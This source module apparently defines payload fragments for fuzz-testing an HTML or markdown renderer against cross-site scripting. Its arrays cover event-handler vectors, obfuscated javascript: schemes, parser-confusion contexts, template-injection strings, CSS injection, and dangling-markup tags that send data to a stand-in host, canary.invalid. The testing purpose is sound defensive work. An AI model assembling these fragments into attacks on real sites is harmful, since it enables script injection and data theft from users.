// The terminals of the grammar of hostile texts. `§` stands for a call of the canary.

export const breakers = ['', '">', "'>", '-->', '</textarea>', '</title>', '</style>', ']]>', '`>', '</script>', '\\">', '<!--'];

export const tags = [
  ...['a', 'b', 'body', 'button', 'canvas', 'details', 'dialog', 'div', 'embed', 'fieldset', 'form', 'frameset', 'iframe', 'img'],
  ...['input', 'keygen', 'label', 'link', 'marquee', 'math', 'object', 'option', 'picture', 'select', 'source', 'style', 'svg'],
  ...['table', 'textarea', 'track', 'video', 'x-y', 'IMG', 'sVg'],
];

export const events = [
  ...['abort', 'animationend', 'animationstart', 'auxclick', 'beforeinput', 'beforetoggle', 'blur', 'canplay', 'change', 'click'],
  ...[
    'contextmenu',
    'copy',
    'cuechange',
    'dblclick',
    'drag',
    'drop',
    'error',
    'focus',
    'focusin',
    'formdata',
    'hashchange',
    'input',
  ],
  ...[
    'invalid',
    'keydown',
    'load',
    'loadeddata',
    'message',
    'mousedown',
    'mouseenter',
    'mouseover',
    'pageshow',
    'paste',
    'pointerdown',
  ],
  ...['pointerover', 'popstate', 'reset', 'resize', 'scroll', 'securitypolicyviolation', 'select', 'start', 'submit', 'toggle'],
  ...['touchstart', 'transitionend', 'unload', 'wheel'],
];

/** Between a tag and its attributes. */
export const gaps = [' ', '/', '\n', '\t', '\f', '\r', ' / ', '/x=1 '];

/** An attribute's value from its sign on. */
export const values = ['="§"', "='§'", '=§', ' = "§"', '=\n§', '="§', '=`§`', '="&#9;§"'];

/** Loads that fail or succeed at once, without a network. */
export const sources = [
  'src=data:,x',
  'src="data:image/x,"',
  'src=x:x',
  'src',
  'srcset=x:x',
  'href=x:x',
  'data=x:x',
  'poster=x:x',
];

export const schemes = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', '\u001fjavascript:', 'java\tscript:', 'java\nscript:'],
  ...['javascript\t:', 'jav&#x0A;ascript:', 'javascript&colon;', '&#106;avascript:', '&#x6a;avascript:', 'java&Tab;script:'],
  ...['javascript://a%0a', 'javascript:/**/', 'javascript:void(0);', 'vbscript:', 'livescript:', 'view-source:javascript:'],
  ...['data:text/html,<script>parent.', 'data:text/html;charset=utf-7,', 'data:image/svg+xml,<svg onload=parent.'],
  ...[
    'blob:javascript:',
    'filesystem:javascript:',
    'about:blank#javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'x-javascript:',
  ],
];

/** Attributes that lead somewhere, with the tag they need. */
export const leads = [
  ...[
    '<a href=',
    '<area href=',
    '<a target=_blank href=',
    '<a ping=',
    '<base href=',
    '<link rel=stylesheet href=',
    '<form action=',
  ],
  ...['<button form=f formaction=', '<input type=submit formaction=', '<input type=image src=', '<iframe src=', '<frame src='],
  ...['<embed src=', '<object data=', '<script src=', '<img src=', '<video poster=', '<body background=', '<table background='],
  ...[
    '<svg><a xlink:href=',
    '<svg><use href=',
    '<svg><script href=',
    '<svg><image href=',
    '<svg><animate attributeName=href to=',
  ],
  ...[
    '<math href=',
    '<math><maction actiontype=statusline xlink:href=',
    '<meta http-equiv=refresh content=0;url=',
    '<blockquote cite=',
  ],
];

/** Where one parser's text is another's markup. */
export const worlds = [
  ...['<svg>', '<math>', '<svg><desc>', '<svg><title>', '<svg><foreignObject>', '<svg><style>', '<math><mtext>', '<math><mi>'],
  ...[
    '<math><annotation-xml encoding=text/html>',
    '<math><annotation-xml>',
    '<math><mtext><mglyph>',
    '<math><mtext><malignmark>',
  ],
  ...[
    '<math><mtext><table><mglyph>',
    '<svg></p>',
    '<math></br>',
    '<form><math><mtext></form><form>',
    '<select><svg>',
    '<table><svg>',
  ],
];
export const raws = [
  ...[
    '<style>',
    '<title>',
    '<textarea>',
    '<noscript>',
    '<xmp>',
    '<noembed>',
    '<noframes>',
    '<iframe>',
    '<template>',
    '<plaintext>',
  ],
  ...['<select><option>', '<table><td>', '<p>', '<!--', '<![CDATA[', '<?xml ', '<listing>'],
];
/** How what was raw is left, within an attribute or a comment where it seems harmless. */
export const exits = ['<a title="', '<p id="', '<!--', '<img alt="', "<b lang='", '<!', '</'];
export const closers = [
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</xmp>',
  '-->',
  ']]>',
  '</template>',
  '</svg>',
  '</math>',
];
/** What waits behind them. */
export const traps = [
  ...['<img src=x:x onerror=§>', '<svg onload=§>', '<script>§</script>', '<iframe srcdoc="<script>parent.§</script>">'],
  ...['<video><source onerror=§>', '<details open ontoggle=§>', '<input autofocus onfocus=§>', '<a href=javascript:§>x</a>'],
];

export const templates = [
  ...[
    '${§}',
    '{{§}}',
    '{{{§}}}',
    '<%= § %>',
    '<%- § %>',
    '#{§}',
    '[[§]]',
    '[(§)]',
    '@{§}',
    '{%§%}',
    '*{§}',
    '$(§)',
    '{php}§{/php}',
  ],
  ...['<!--?lit$90001$-->§', '?lit$90001$§', '{{lit-0}}§', '<?lit$90001$§>', '<div .innerHTML=${"§"}>', '<div @click=${§}>'],
];
/** What a template engine would be made to call. */
export const reaches = [
  ...['§', "constructor.constructor('§')()", '[].constructor.constructor("§")()', "''.sub.call.call(({}).constructor('§'),null)"],
  ...[
    "$eval('§')",
    "$on.constructor('§')()",
    '_c.constructor("§")()',
    '(()=>{§})()',
    "toString.constructor('§')()",
    'self.top.§',
  ],
];

export const marks = [
  ...[
    '[x](',
    '![x](',
    '[x]: ',
    '<',
    '[x](<',
    '[**x**](',
    '[![x](',
    '[x](x "',
    '> [x](',
    '- [x](',
    '1. <',
    '[x\\](',
    '`[x](',
    '~~[x](',
  ],
  ...['```js\n[x](', '[x][y]\n\n[y]: ', '[](', '[x]( ', '[x](\n', '[a](b)[x](', '||[x](', '# [x](', '| [x](', '<!-- [x]('],
];
export const unmarks = [')', '>', '>)', '"t")', ')**', '](y)', '\n```', '', ' )', '\\)', '))', ')`'];

export const styles = [
  ...['<div style="X">', '<style>X</style>', '</style><style>X</style>', '<p style=X>', '<svg><style>X</style></svg>'],
  ...[
    '<link rel=stylesheet href="data:text/css,X">',
    '"style="X"',
    "';X;'",
    '}X{',
    '*{X}',
    '/*X*/',
    '<style>@media{X',
    ':host{X}',
  ],
];
export const rules = [
  ...[
    'background:url(javascript:§)',
    'width:expression(§)',
    '-moz-binding:url(data:,§)',
    'behavior:url(#§)',
    '@import"data:,§";',
  ],
  ...[
    'background:url(https://canary.invalid/?§)',
    'animation:x 1ms}@keyframes x{}/*§*/',
    'content:"§"',
    '--chat-accent:url(//canary.invalid/?§)',
  ],
  ...[
    '\\75rl(javascript:§)',
    'x:e\\xpression(§)',
    '@font-face{src:url(//canary.invalid/§)}',
    'list-style:url("javascript:§")',
    'position:fixed;inset:0/*§*/',
  ],
];

/** Markup that would ask a stranger for something, or take the rest of the page along. */
export const dangling = [
  ...["<img src='https://canary.invalid/?§", '<img src="//canary.invalid/?§">', '<link rel=prefetch href=//canary.invalid/?§>'],
  ...[
    '<link rel=preconnect href=//canary.invalid/§>',
    '<base href=//canary.invalid/§/>',
    '<base target="§',
    '<form action=//canary.invalid/§><button>x',
  ],
  ...[
    "<meta http-equiv=refresh content='0;url=//canary.invalid/?§",
    '<meta http-equiv=set-cookie content=§>',
    '<textarea>§',
    '<plaintext>§',
  ],
  ...[
    '<video src=//canary.invalid/§>',
    '<object data=//canary.invalid/§>',
    '<iframe src=//canary.invalid/§>',
    '<table background=//canary.invalid/§>',
  ],
  ...[
    '<script src=//canary.invalid/§></script>',
    '<a ping=//canary.invalid/§ href=x>x</a>',
    '<input type=image src=//canary.invalid/§>',
  ],
];
export const tails = ['', ' ', '\n', '"', "'", '>', ' x=', '<', '\u0000', '&', '\u2028'];
